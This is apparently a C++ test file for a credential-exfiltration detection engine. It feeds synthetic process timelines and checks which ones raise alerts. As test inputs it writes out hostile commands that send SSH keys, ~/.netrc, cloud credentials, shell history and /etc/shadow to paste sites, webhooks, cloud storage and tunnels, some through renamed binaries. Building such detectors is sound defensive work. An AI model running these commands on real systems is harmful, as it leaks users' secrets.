// Tests detect/engine.cpp over synthetic timelines: every public scenario (attacks alert with the
// right sub-technique, look-alikes stay silent) and variants (other sites, rclone, renamed
// binaries, event orders, pid reuse, windows, caps).
#include <doctest/doctest.h>

#include <fmt/format.h>

#include <functional>

#include "timeline.hpp"

using namespace exfilwatch;
using namespace exfilwatch::detect;
using namespace exfilwatch::detect::test;

namespace {

const std::string key = home + "/.ssh/id_ed25519";

void expect_alert(const Timeline& tl, const std::string& subtechnique, const std::string& category)
{
    REQUIRE_FALSE(tl.alerts.empty());
    const Alert* a = tl.find(subtechnique);
    REQUIRE(a != nullptr);
    CHECK(a->technique_id == "T1567");
    CHECK(a->category == category);
    CHECK(a->risk_score >= tl.engine.rules().settings.alert_threshold);
    CHECK(a->risk_score <= 100);
    CHECK_FALSE(a->reason.empty());
    CHECK_FALSE(a->signals.empty());
    CHECK_FALSE(a->chain.empty());
    int sum = 0;
    for (const auto& s : a->signals) sum += s.weight;
    CHECK(std::clamp(sum, 0, 100) == a->risk_score);
}

// `bash -c '...; LAST'`: bash execs its last command, which becomes the parent of the earlier ones.
ProcessRef exec_into(Timeline& tl, ProcessRef process, std::vector<std::string> args, std::uint64_t stdout_pipe)
{
    process.executable = "/usr/bin/" + args.front();
    process.name = args.front();
    process.args = std::move(args);
    process.stdout_pipe = stdout_pipe;
    process.stdout_kind = stdout_pipe ? StdoutKind::pipe : StdoutKind::other;
    tl.feed(ExecEvent{tl.t, process});
    tl.step();
    return process;
}

constexpr std::uint64_t harness_pipe = 555;  // the stdout every command of the session inherits

// The trickle tests' workload: `script` reads the key, then ten children of it each `send` (one
// connection's worth) and exit.
void trickle_through_children(Timeline& tl, const ProcessRef& script,
                              const std::function<void(const ProcessRef& child)>& send)
{
    tl.read(script, key, 2000);
    for (int i = 0; i < 10; ++i) {
        auto child = tl.spawn(script, {"python3", "send.py"});
        send(child);
        tl.exit(child);
    }
}

// A trickle that adds up: a paste-site alert on the lineage's data volume.
void expect_trickle_alert(const Timeline& tl)
{
    REQUIRE_FALSE(tl.alerts.empty());
    CHECK(tl.alerts.back().subtechnique_id == "T1567.003");
    CHECK(tl.has_signal(tl.alerts.back(), "data-volume"));
}

}  // namespace

TEST_CASE("attack 1: slack webhook with .netrc attached alerts T1567.004")
{
    Timeline tl;
    auto curl =
        tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "hooks.slack.com:8443:127.0.0.1", "-F",
                            "file=@" + home + "/.netrc", "https://hooks.slack.com:8443/services/T0001/B0001/XXXXXXXX"});
    tl.open_read(curl, home + "/.netrc");
    tl.transfer(curl, "hooks.slack.com", 600 + 2400 + 350, 1800);
    tl.exit(curl);
    tl.summary(curl, home + "/.netrc", 2400);
    expect_alert(tl, "T1567.004", "webhook");
    const auto& a = *tl.find("T1567.004");
    CHECK(a.destination_domain == "hooks.slack.com");
    CHECK(a.process.name == "curl");
    CHECK(tl.has_signal(a, "sensitive-read"));
    CHECK(tl.has_signal(a, "upload-command"));
    REQUIRE_FALSE(a.files.empty());
    CHECK(a.files[0].sensitive_class == "dev-tokens");
    // The evidence never carries the webhook token.
    for (const auto& s : a.signals) CHECK(s.evidence.find("XXXXXXXX") == std::string::npos);
    CHECK(a.reason.find("~/.netrc") != std::string::npos);
}

TEST_CASE("attack 2: shell history to a paste site with wget alerts T1567.003")
{
    Timeline tl;
    auto wget = tl.spawn(tl.shell, {"wget", "-q", "-O", "/dev/null", "--no-check-certificate",
                                    "--post-file=" + home + "/.bash_history", "https://paste.rs:8443/"});
    tl.open_read(wget, home + "/.bash_history");
    tl.transfer(wget, "paste.rs", 700 + 3100, 1700);
    tl.exit(wget);
    tl.summary(wget, home + "/.bash_history", 3100);
    expect_alert(tl, "T1567.003", "paste");
    CHECK(tl.find("T1567.003")->files[0].sensitive_class == "shell-history");
}

TEST_CASE("attack 3: staged archive to cloud storage alerts T1567.002 (taint through the staging file)")
{
    Timeline tl;
    auto tar = tl.spawn(tl.shell, {"tar", "czf", "/tmp/stage.tgz", "-C", home, ".ssh", ".aws"});
    tl.open_write(tar, "/tmp/stage.tgz", 777);
    tl.open_read(tar, key);
    tl.open_read(tar, key + ".pub");
    tl.open_read(tar, home + "/.aws/credentials");
    tl.open_read(tar, home + "/.aws/config");
    tl.wrote(tar, "/tmp/stage.tgz", 777);  // tar writes the archive after it read the files
    tl.exit(tar);
    tl.summary(tar, key, 2600);
    tl.summary(tar, key + ".pub", 600);
    tl.summary(tar, home + "/.aws/credentials", 2100);
    tl.summary(tar, home + "/.aws/config", 1500);
    tl.summary(tar, "/tmp/stage.tgz", 0, 777, true);
    auto curl =
        tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "content.dropboxapi.com:8443:127.0.0.1", "-X", "POST",
                            "--data-binary", "@/tmp/stage.tgz", "https://content.dropboxapi.com:8443/2/files/upload"});
    tl.open_read(curl, "/tmp/stage.tgz", 777);
    tl.transfer(curl, "content.dropboxapi.com", 700 + 4200, 1600);
    tl.exit(curl);
    tl.summary(curl, "/tmp/stage.tgz", 4200, 777);
    expect_alert(tl, "T1567.002", "cloud-storage");
    const auto& a = *tl.find("T1567.002");
    bool staged = false, ssh = false;
    for (const auto& f : a.files) {
        staged |= f.path == "/tmp/stage.tgz" && f.sensitive_class.empty();
        ssh |= f.sensitive_class == "ssh-key";
    }
    CHECK(staged);
    CHECK(ssh);
    CHECK(a.chain.size() >= 2);
    CHECK(a.chain.front().start_time <= a.chain.back().start_time);
    CHECK(a.reason.find("staged in /tmp/stage.tgz") != std::string::npos);
}

TEST_CASE("attack 4: python upload of a registry credential to a code host alerts T1567.001")
{
    Timeline tl;
    auto py =
        tl.spawn(tl.shell,
                 {"python3", "-c",
                  "import ssl,urllib.request,os; d=open(os.path.expanduser(\"~/.docker/config.json\"),\"rb\").read(); "
                  "urllib.request.urlopen(urllib.request.Request(\"https://gitlab.com:8443/api/v4/snippets\", "
                  "data=d, method=\"POST\"), context=ssl._create_unverified_context())"},
                 "/usr/bin/python3.11");
    tl.read(py, home + "/.docker/config.json", 2200);
    tl.transfer(py, "gitlab.com", 800 + 2200, 1500);
    tl.exit(py);
    expect_alert(tl, "T1567.001", "code-repository");
    CHECK(tl.has_signal(*tl.find("T1567.001"), "upload-command"));
}

TEST_CASE("attack 5: shadow file through a tunnel alerts T1567 (pipeline siblings)")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9301);
    auto curl = tl.spawn(tl.shell,
                         {"curl", "-sk", "--resolve", "abc123.ngrok-free.app:8443:127.0.0.1", "--data-binary", "@-",
                          "https://abc123.ngrok-free.app:8443/"},
                         {}, 0, 9301);
    tl.open_read(cat, "/etc/shadow");
    tl.exit(cat);
    tl.summary(cat, "/etc/shadow", 1300);
    tl.transfer(curl, "abc123.ngrok-free.app", 700 + 1300, 1500);
    tl.exit(curl);
    REQUIRE_FALSE(tl.alerts.empty());
    const auto& a = tl.alerts.front();
    CHECK(a.technique_id == "T1567");
    CHECK(a.subtechnique_id.empty());
    CHECK(a.category == "tunnel");
    CHECK(a.risk_score >= 60);
    CHECK(a.files[0].sensitive_class == "system-secrets");
    CHECK(a.reason.find("cat read /etc/shadow") != std::string::npos);
}

TEST_CASE("attack 5 variant: the reader's summary arrives after the upload closed")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9302);
    auto curl =
        tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://abc123.ngrok-free.app:8443/"}, {}, 0, 9302);
    tl.transfer(curl, "abc123.ngrok-free.app", 700 + 1300, 1500);
    tl.exit(curl);
    CHECK(tl.alerts.empty());  // nothing read yet as far as the engine knows
    tl.summary(cat, "/etc/shadow", 1300);
    tl.exit(cat);
    REQUIRE(tl.alerts.size() == 1);
    CHECK(tl.alerts[0].category == "tunnel");
}

TEST_CASE("attack 6: renamed client and an encoded key alert T1567.003 with renamed-binary")
{
    Timeline tl;
    auto cp = tl.spawn(tl.shell, {"cp", "/usr/bin/curl", "/tmp/.x"});
    tl.open_read(cp, "/usr/bin/curl");
    tl.open_write(cp, "/tmp/.x", 4242);
    tl.exit(cp);
    auto b64 = tl.spawn(tl.shell, {"base64", key}, {}, 0, 0, 9303);
    auto x = tl.spawn(tl.shell,
                      {"/tmp/.x", "-sk", "--resolve", "rentry.co:8443:127.0.0.1", "--data-binary", "@-",
                       "https://rentry.co:8443/api/new"},
                      "/tmp/.x", 0, 9303);
    tl.open_read(b64, key);
    tl.summary(b64, key, 2600);
    tl.exit(b64);
    tl.transfer(x, "rentry.co", 700 + 3500, 1500);
    tl.exit(x);
    expect_alert(tl, "T1567.003", "paste");
    const auto& a = *tl.find("T1567.003");
    CHECK(tl.has_signal(a, "renamed-binary"));
    CHECK(tl.has_signal(a, "unusual-executable-path"));
    CHECK(a.reason.find("renamed curl") != std::string::npos);
    CHECK(a.reason.find("base64 read ~/.ssh/id_ed25519 (ssh-key)") != std::string::npos);
}

TEST_CASE("benign 1: CI notification to a webhook without a sensitive read is silent")
{
    Timeline tl;
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "hooks.slack.com:8443:127.0.0.1", "-d",
                                    "{\"text\":\"build 1234 passed\"}",
                                    "https://hooks.slack.com:8443/services/T0001/B0001/XXXXXXXX"});
    tl.transfer(curl, "hooks.slack.com", 900, 1800);
    tl.exit(curl);
    CHECK(tl.alerts.empty());
}

TEST_CASE("benign 2: source download from a code host is silent")
{
    Timeline tl;
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "codeload.github.com:8443:127.0.0.1",
                                    "https://codeload.github.com:8443/org/repo/tar.gz/main", "-o", home + "/repo.tgz"});
    tl.open_write(curl, home + "/repo.tgz", 31);
    tl.transfer(curl, "codeload.github.com", 700, 250000);
    tl.exit(curl);
    CHECK(tl.alerts.empty());
}

TEST_CASE("benign 3: reading keys and configs locally without network is silent")
{
    Timeline tl;
    auto keygen = tl.spawn(tl.shell, {"ssh-keygen", "-lf", key + ".pub"});
    tl.read(keygen, key + ".pub", 100);
    tl.exit(keygen);
    auto cat = tl.spawn(tl.shell, {"cat", home + "/.aws/config"});
    tl.read(cat, home + "/.aws/config", 1500);
    tl.exit(cat);
    CHECK(tl.alerts.empty());
}

TEST_CASE("benign 4: uploading a non-sensitive file to an unknown service is silent, even after benign 3")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", home + "/.aws/config"});
    tl.read(cat, home + "/.aws/config", 1500);
    tl.exit(cat);
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "upload.example.org:8443:127.0.0.1", "-T",
                                    "/etc/os-release", "https://upload.example.org:8443/"});
    tl.read(curl, "/etc/os-release", 400);
    tl.transfer(curl, "upload.example.org", 1300, 1500);
    tl.exit(curl);
    CHECK(tl.alerts.empty());
}

TEST_CASE("benign 5: a cloud SDK reads its credentials and lists a bucket: silent")
{
    for (std::uint64_t creds : {116ULL, 2100ULL}) {
        for (std::uint64_t in : {2500ULL, 60000ULL}) {
            CAPTURE(creds);
            CAPTURE(in);
            Timeline tl;
            auto py =
                tl.spawn(tl.shell,
                         {"python3", "-c",
                          "import ssl,urllib.request,os; open(os.path.expanduser(\"~/.aws/credentials\")).read(); "
                          "urllib.request.urlopen(\"https://s3.amazonaws.com:8443/my-bucket?list-type=2\", "
                          "context=ssl._create_unverified_context()).read()"},
                         "/usr/bin/python3.11");
            tl.read(py, home + "/.aws/credentials", creds);
            tl.transfer(py, "s3.amazonaws.com", 850, in);
            tl.exit(py);
            CHECK(tl.alerts.empty());
        }
    }
}

TEST_CASE("variant: other paste sites and a direct upload of a private key")
{
    for (std::string site : {"pastebin.com", "dpaste.org", "www.pastebin.com", "termbin.com"}) {
        CAPTURE(site);
        Timeline tl;
        auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@/root/.ssh/id_rsa", "https://" + site + "/api"});
        tl.read(curl, "/root/.ssh/id_rsa", 3200);
        tl.transfer(curl, site, 700 + 3400, 900);
        expect_alert(tl, "T1567.003", "paste");
    }
}

TEST_CASE("variant: lookalike domains do not match the catalog")
{
    Timeline tl;
    auto curl = tl.spawn(tl.shell, {"curl", "-T", "/root/.ssh/id_rsa", "https://evilpastebin.com/"});
    tl.read(curl, "/root/.ssh/id_rsa", 3200);
    tl.transfer(curl, "evilpastebin.com", 700 + 3400, 900);
    REQUIRE_FALSE(tl.alerts.empty());           // still exfiltration of a key to a web service ...
    CHECK(tl.alerts[0].category == "unknown");  // ... but not a paste site
    CHECK(tl.alerts[0].subtechnique_id.empty());
}

TEST_CASE("variant: rclone copies cloud credentials to a remote")
{
    Timeline tl;
    auto rclone = tl.spawn(tl.shell, {"rclone", "copy", home + "/.aws", "gdrive:backup"});
    tl.read(rclone, home + "/.aws/credentials", 2100);
    tl.read(rclone, home + "/.aws/config", 900);
    tl.transfer(rclone, "www.googleapis.com", 900 + 3000, 1500);
    expect_alert(tl, "T1567.002", "cloud-storage");
    CHECK(tl.has_signal(*tl.find("T1567.002"), "upload-command"));
}

TEST_CASE("variant: argv[0] claims curl but the executable is a hidden copy")
{
    Timeline tl;
    auto x = tl.spawn(tl.shell, {"curl", "-T", key, "https://transfer.sh/k"}, "/dev/shm/.cache/kworker");
    tl.read(x, key, 2600);
    tl.transfer(x, "transfer.sh", 700 + 2600, 800);
    expect_alert(tl, "T1567.002", "cloud-storage");
    CHECK(tl.has_signal(*tl.find("T1567.002"), "renamed-binary"));
    CHECK(tl.has_signal(*tl.find("T1567.002"), "unusual-executable-path"));
}

TEST_CASE("variant: sh -c 'cat key | openssl s_client' (pipeline under a child shell)")
{
    Timeline tl;
    auto sh = tl.spawn(tl.shell, {"sh", "-c", "cat k | openssl s_client -quiet -connect x.trycloudflare.com:443"});
    auto cat = tl.spawn(sh, {"cat", key}, {}, 0, 0, 9306);
    auto ossl = tl.spawn(sh, {"openssl", "s_client", "-quiet", "-connect", "x.trycloudflare.com:443"}, {}, 0, 9306);
    tl.read(cat, key, 2600);
    tl.exit(cat);
    tl.transfer(ossl, "x.trycloudflare.com", 700 + 2600, 1500);
    REQUIRE_FALSE(tl.alerts.empty());
    CHECK(tl.alerts[0].category == "tunnel");
}

TEST_CASE("variant: pid reuse does not carry a dead process's reads to a new one")
{
    Timeline tl;
    auto reader = tl.spawn(tl.shell, {"cat", key}, {}, 5555);
    tl.read(reader, key, 2600);
    tl.exit(reader);
    auto other_shell = tl.start_shell();
    tl.step(1000);
    auto curl = tl.spawn(other_shell, {"curl", "-d", "hello", "https://pastebin.com/api"}, {}, 5555);
    CHECK(curl.entity_id != reader.entity_id);
    tl.transfer(curl, "pastebin.com", 4000, 900);
    CHECK(tl.alerts.empty());
}

TEST_CASE("variant: sequential commands in one shell do not share taint without a staging file")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", key});
    tl.read(cat, key, 2600);
    tl.exit(cat);
    auto curl = tl.spawn(tl.shell, {"curl", "-d", "@notes.txt", "https://pastebin.com/api"});
    tl.read(curl, home + "/notes.txt", 3000);
    tl.transfer(curl, "pastebin.com", 4000, 900);
    CHECK(tl.alerts.empty());
}

TEST_CASE("variant: a four-stage pipeline whose first stages exit before the uploader starts")
{
    // cat ~/.bash_history | gzip | base64 | curl --data-binary @- : the shell forks each stage in
    // turn and fast writers are gone before the uploader exists; the pipes join them.
    Timeline tl;
    const std::string history = home + "/.bash_history";
    auto cat = tl.spawn(tl.shell, {"cat", history}, {}, 0, 0, 9001);
    tl.read(cat, history, 4000);
    tl.exit(cat);
    auto gzip = tl.spawn(tl.shell, {"gzip"}, {}, 0, 9001, 9002);
    tl.exit(gzip);
    tl.step(50);
    auto b64 = tl.spawn(tl.shell, {"base64"}, {}, 0, 9002, 9003);
    tl.exit(b64);
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://webhook.site/abc"}, {}, 0, 9003);
    tl.transfer(curl, "webhook.site", 2871, 400);
    expect_alert(tl, "T1567.004", "webhook");
    CHECK(tl.find("T1567.004")->reason.find("~/.bash_history") != std::string::npos);
}

TEST_CASE("variant: the same stages on other pipes do not taint the uploader")
{
    Timeline tl;
    const std::string history = home + "/.bash_history";
    auto cat = tl.spawn(tl.shell, {"cat", history}, {}, 0, 0, 9101);
    tl.read(cat, history, 4000);
    tl.exit(cat);
    auto gzip = tl.spawn(tl.shell, {"gzip"}, {}, 0, 9101, 0);
    tl.exit(gzip);
    tl.step(50);
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://webhook.site/abc"}, {}, 0, 9102);
    tl.transfer(curl, "webhook.site", 2871, 400);
    CHECK(tl.alerts.empty());
}

TEST_CASE("variant: a script file posts a small key to a paste site (no upload command, not upload-shaped)")
{
    // python3 u.py: 411 bytes of key, 1253 out over TLS, 2257 in (the server's certificate).
    Timeline tl;
    auto py = tl.spawn(tl.shell, {"python3", home + "/u.py"}, "/usr/bin/python3.11");
    tl.read(py, key, 411);
    tl.transfer(py, "hastebin.com", 1253, 2257);
    expect_alert(tl, "T1567.003", "paste");
}

TEST_CASE("variant: the same small exchange with a code host after reading a token stays under the threshold")
{
    Timeline tl;
    auto py = tl.spawn(tl.shell, {"python3", home + "/sync.py"}, "/usr/bin/python3.11");
    tl.read(py, home + "/.netrc", 411);
    tl.transfer(py, "api.github.com", 1253, 2257);
    CHECK(tl.alerts.empty());
}

TEST_CASE("variant: an earlier command's output to /dev/null does not feed the shell's exec'd last command")
{
    // bash -c 'cat ~/.netrc > /dev/null; head -c 200000 /dev/urandom > pkg.tgz; curl -T pkg.tgz ...'
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", home + "/.netrc"}, {}, 0, 0, 0, StdoutKind::other);
    tl.read(cat, home + "/.netrc", 3400);
    tl.exit(cat);
    auto curl = exec_into(tl, tl.shell, {"curl", "-T", "pkg.tgz", "https://paste.rs/"}, harness_pipe);
    tl.read(curl, home + "/pkg.tgz", 200'000);
    tl.transfer(curl, "paste.rs", 201'000, 400);
    CHECK(tl.alerts.empty());
}

TEST_CASE("variant: an earlier pipeline's output went to its own reader, not to the exec'd uploader")
{
    // bash -c 'cat key | grep -c x; curl -d hello ...' (bash's own stdout is the harness pipe)
    Timeline tl;
    tl.shell =
        exec_into(tl, tl.shell, {"bash", "-c", "cat key | grep -c x; curl -d hello https://paste.rs/"}, harness_pipe);
    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 800);
    auto grep = tl.spawn(tl.shell, {"grep", "-c", "x"}, {}, 0, 800, harness_pipe);
    tl.read(cat, key, 411);
    tl.exit(cat);
    tl.exit(grep);
    auto curl = exec_into(tl, tl.shell, {"curl", "-d", "hello", "https://paste.rs/"}, harness_pipe);
    tl.transfer(curl, "paste.rs", 1300, 400);
    CHECK(tl.alerts.empty());
}

TEST_CASE("variant: command substitution feeds the exec'd uploader")
{
    // bash -c 'curl -d "$(cat key)" https://paste.rs/': cat writes to a pipe bash reads itself.
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 901);
    tl.read(cat, key, 411);
    tl.exit(cat);
    auto curl = exec_into(tl, tl.shell, {"curl", "-d", "[REDACTED BODY]", "https://paste.rs/"}, harness_pipe);
    tl.transfer(curl, "paste.rs", 1300, 400);
    expect_alert(tl, "T1567.003", "paste");
}

TEST_CASE("variant: x=$(cat key); curl -d \"$x\" (curl forked): what fed the shell reaches its child")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 902);
    tl.read(cat, key, 411);
    tl.exit(cat);
    tl.step(100);
    auto curl = tl.spawn(tl.shell, {"curl", "-d", "@-", "https://paste.rs/"}, {}, 0, 0, harness_pipe);
    tl.transfer(curl, "paste.rs", 1300, 400);
    expect_alert(tl, "T1567.003", "paste");
}

TEST_CASE("variant: an interpreter reading the shell's history is data, its own REPL history is not")
{
    // node -e 'fetch(URL, {method: "POST", body: fs.readFileSync(HOME + "/.bash_history")})'
    Timeline tl;
    auto node = tl.spawn(tl.shell, {"node", "-e", "fetch(u, {method: 'POST', body: b})"});
    tl.read(node, home + "/.bash_history", 4000);
    tl.transfer(node, "discord.com", 5283, 2257);
    expect_alert(tl, "T1567.004", "webhook");

    Timeline own;
    auto py = own.spawn(own.shell, {"python3"}, "/usr/bin/python3.11");
    own.read(py, home + "/.python_history", 4000);
    own.transfer(py, "pastebin.com", 1200, 30000);
    CHECK(own.alerts.empty());
}

TEST_CASE("variant: a consumer fed a secret on stdin by its shell's redirect (curl -d @- < ~/.netrc) alerts")
{
    Timeline tl;
    ProcessRef child = tl.shell;  // the shell's fork opens the redirect before it execs curl
    child.pid = 7777;
    child.entity_id = "e7777";
    child.ppid = tl.shell.pid;
    child.parent_entity_id = tl.shell.entity_id;
    child.start_time = tl.t;
    tl.feed(ForkEvent{tl.t, child});
    tl.step();
    tl.open_read(child, home + "/.netrc");
    ProcessRef curl = child;
    curl.executable = "/usr/bin/curl";
    curl.name = "curl";
    curl.args = {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"};
    tl.feed(ExecEvent{tl.t, curl});
    tl.step();
    tl.summary(curl, home + "/.netrc", 2400);
    tl.transfer(curl, "paste.rs", 3300, 400);
    expect_alert(tl, "T1567.003", "paste");

    // The same curl opening ~/.netrc itself (curl -n) for a request: its own use, no alert.
    Timeline own;
    auto netrc_user = own.spawn(own.shell, {"curl", "-n", "https://api.github.com/user"});
    own.open_read(netrc_user, home + "/.netrc");
    own.summary(netrc_user, home + "/.netrc", 2400);
    own.transfer(netrc_user, "api.github.com", 900, 5000);
    CHECK(own.alerts.empty());
}

TEST_CASE("variant: git push over ssh reads its own key: silent")
{
    Timeline tl;
    auto git = tl.spawn(tl.shell, {"git", "push", "origin", "main"});
    auto ssh = tl.spawn(git, {"ssh", "git@github.com", "git-receive-pack 'org/repo.git'"});
    tl.read(ssh, key, 2600);
    tl.transfer(ssh, "github.com", 80000, 6000);
    CHECK(tl.alerts.empty());
}

TEST_CASE("variant: ssh-keygen -f KEY, then the shell execs a webhook post: silent (the key was its own use)")
{
    // bash -c 'ssh-keygen -y -f KEY >/dev/null; curl -d ... hooks.slack.com': bash execs its last
    // command, so curl is the parent of the reader; naming the key to ssh-keygen is not data.
    Timeline tl;
    auto keygen = tl.spawn(tl.shell, {"ssh-keygen", "-y", "-f", key});
    tl.read(keygen, key, 2600);
    tl.exit(keygen);
    ProcessRef curl = tl.shell;
    curl.executable = "/usr/bin/curl";
    curl.name = "curl";
    curl.args = {"curl", "-sk", "-d", "{\"text\":\"deployed\"}", "https://hooks.slack.com/services/T/B/X"};
    tl.feed(ExecEvent{tl.t, curl});
    tl.step();
    tl.transfer(curl, "hooks.slack.com", 830, 300);
    CHECK(tl.alerts.empty());
}

TEST_CASE("variant: a consumer of the key that also uploads it by name alerts")
{
    // curl reads ~/.netrc for itself (a consumer), but here it names the file in its upload.
    Timeline tl;
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@" + home + "/.netrc", "https://paste.rs/"});
    tl.read(curl, home + "/.netrc", 2400);
    tl.transfer(curl, "paste.rs", 600 + 2400 + 350, 900);
    expect_alert(tl, "T1567.003", "paste");
}

TEST_CASE("variant: aws s3 cp of a build artifact after reading its own credentials: silent")
{
    Timeline tl;
    auto aws = tl.spawn(tl.shell, {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", "build.tar", "s3://bucket/"},
                        "/usr/bin/python3.11");
    tl.read(aws, home + "/.aws/credentials", 2100);
    tl.read(aws, home + "/build.tar", 3'000'000);
    tl.transfer(aws, "bucket.s3.eu-west-1.amazonaws.com", 3'100'000, 9000);
    CHECK(tl.alerts.empty());
}

TEST_CASE("variant: the same aws upload of the credentials file itself alerts")
{
    Timeline tl;
    auto aws =
        tl.spawn(tl.shell, {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", home + "/.aws/credentials", "s3://drop/"},
                 "/usr/bin/python3.11");
    tl.read(aws, home + "/.aws/credentials", 2100);
    tl.transfer(aws, "drop.s3.us-east-1.amazonaws.com", 700 + 2100 + 500, 1200);
    expect_alert(tl, "T1567.002", "cloud-storage");
}

TEST_CASE("allowlisted processes get lower scores, not blindness")
{
    auto run = [](const std::string& exe) {
        Timeline tl;
        auto p = tl.spawn(tl.shell, {exe}, "/usr/bin/" + exe);
        tl.read(p, key, 2600);
        tl.transfer(p, "pastebin.com", 700 + 2600, 500);
        tl.summary(p, key, 2600);
        return tl;
    };
    auto plain = run("myagent");
    auto browser = run("firefox");
    REQUIRE_FALSE(plain.alerts.empty());
    int browser_score = browser.alerts.empty() ? 0 : browser.max_score();
    CHECK(browser_score < plain.max_score());
    // Even a browser alerts when enough adds up: rescoring with a higher-weight path.
    Timeline tl;
    auto ff = tl.spawn(tl.shell, {"firefox"}, "/tmp/.hidden/firefox");
    tl.read(ff, key, 2600);
    tl.read(ff, "/etc/shadow", 1200);
    tl.read(ff, home + "/.aws/credentials", 1200);
    tl.transfer(ff, "pastebin.com", 700 + 5000, 500);
    REQUIRE_FALSE(tl.alerts.empty());
    CHECK(tl.has_signal(tl.alerts[0], "allowlisted-process"));
}

TEST_CASE("alerts once per lineage and destination, again only on escalation")
{
    Timeline tl;
    auto curl = tl.spawn(tl.shell, {"curl", "--data-binary", "@-", "https://paste.ee/api"}, {}, 0, 9304);
    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9304);
    tl.read(cat, "/etc/shadow", 1300);
    auto f = tl.connect(curl, "paste.ee");
    tl.flow(curl, f, "paste.ee", 300, 1000, false);  // handshake only: not yet covered
    std::size_t first = tl.alerts.size();
    tl.flow(curl, f, "paste.ee", 2500, 1000, false);  // data went out
    tl.flow(curl, f, "paste.ee", 2500, 1000, false);  // same again: no repeat
    tl.flow(curl, f, "paste.ee", 2600, 1000, true);
    REQUIRE(tl.alerts.size() >= 1);
    CHECK(tl.alerts.size() <= first + 2);
    for (std::size_t i = 1; i < tl.alerts.size(); ++i)
        CHECK(tl.alerts[i].risk_score >= tl.alerts[i - 1].risk_score + tl.engine.rules().settings.realert_step);
}

TEST_CASE("no deadline: a read long before the upload counts while the reader lives")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"sleep-reader", key}, "/usr/bin/sleep-reader");
    tl.read(cat, key, 2600);
    tl.step(tl.engine.rules().settings.window_ns / 1'000'000 * 6 + 5000);
    auto curl = tl.spawn(cat, {"curl", "--data-binary", "@-", "https://paste.ee/api"});
    tl.transfer(curl, "paste.ee", 4000, 900);
    CHECK_FALSE(tl.alerts.empty());
}

TEST_CASE("parent to child inheritance: a reader that spawns the uploader")
{
    Timeline tl;
    auto py = tl.spawn(tl.shell, {"python3", "exfil.py"}, "/usr/bin/python3.11");
    tl.read(py, home + "/.kube/config", 5000);
    auto curl = tl.spawn(py, {"curl", "--data-binary", "@-", "https://webhook.site/abc"});
    tl.transfer(curl, "webhook.site", 700 + 5000, 900);
    expect_alert(tl, "T1567.004", "webhook");
}

TEST_CASE("discord counts as a webhook only on /api/webhooks/ when the path is known")
{
    Timeline tl;
    auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "http://discord.com/api/webhooks/1/abc"});
    tl.read(curl, key, 2600);
    auto f = tl.connect(curl, "discord.com", false, 80);
    tl.flow(curl, f, "discord.com", 3500, 500, true);
    REQUIRE_FALSE(tl.alerts.empty());
    CHECK(tl.alerts[0].category == "unknown");  // the helper's HTTP request path is "/"
}

TEST_CASE("deterministic: the same events give the same alerts")
{
    auto run = [] {
        Timeline tl;
        auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9305);
        auto curl = tl.spawn(tl.shell, {"curl", "--data-binary", "@-", "https://x.ngrok.io/"}, {}, 0, 9305);
        tl.read(cat, "/etc/shadow", 1300);
        tl.transfer(curl, "x.ngrok.io", 2600, 900);
        return tl.alerts;
    };
    auto a = run(), b = run();
    REQUIRE(a.size() == b.size());
    REQUIRE_FALSE(a.empty());
    for (std::size_t i = 0; i < a.size(); ++i) {
        CHECK(a[i].risk_score == b[i].risk_score);
        CHECK(a[i].reason == b[i].reason);
        CHECK(a[i].time == b[i].time);
    }
}

TEST_CASE("memory stays bounded and evictions are counted")
{
    auto r = builtin();
    r.settings.max_processes = 32;
    r.settings.max_pairs = 16;
    r.settings.max_flows = 16;
    r.settings.max_staging_files = 16;
    Timeline tl(std::move(r));
    for (int i = 0; i < 400; ++i) {
        auto p = tl.spawn(tl.shell, {"worker", std::to_string(i)}, "/usr/bin/worker");
        tl.open_write(p, "/tmp/out" + std::to_string(i), 100000 + i);
        tl.read(p, key, 100);  // tainted: its file is tracked, and evicting it is a blind spot
        tl.wrote(p, "/tmp/out" + std::to_string(i), 100000 + i);
        auto f = tl.connect(p, "host" + std::to_string(i) + ".example");
        tl.flow(p, f, "host" + std::to_string(i) + ".example", 100, 100, false);
        tl.step(1100);
    }
    auto s = tl.engine.stats();
    CHECK(s.processes <= 40);
    CHECK(s.pairs <= 20);
    CHECK(s.flows <= 20);
    CHECK(s.staged_files <= 20);
    CHECK(s.evicted_processes > 0);
    CHECK(s.evicted_flows > 0);
    CHECK(s.evicted_pairs > 0);
    CHECK(s.evicted_staged_files > 0);
    CHECK(s.events > 1000);
}

TEST_CASE("first-seen destinations: a full memory forgets the one seen longest ago, one per new domain")
{
    auto r = builtin();
    r.settings.max_destinations = 4;
    Timeline tl(std::move(r));
    auto visit = [&](int i) {  // a new process each time: a new pair, which asks whether its domain is new
        auto p = tl.spawn(tl.shell, {"curl", "https://example.org/"}, "/usr/bin/curl");
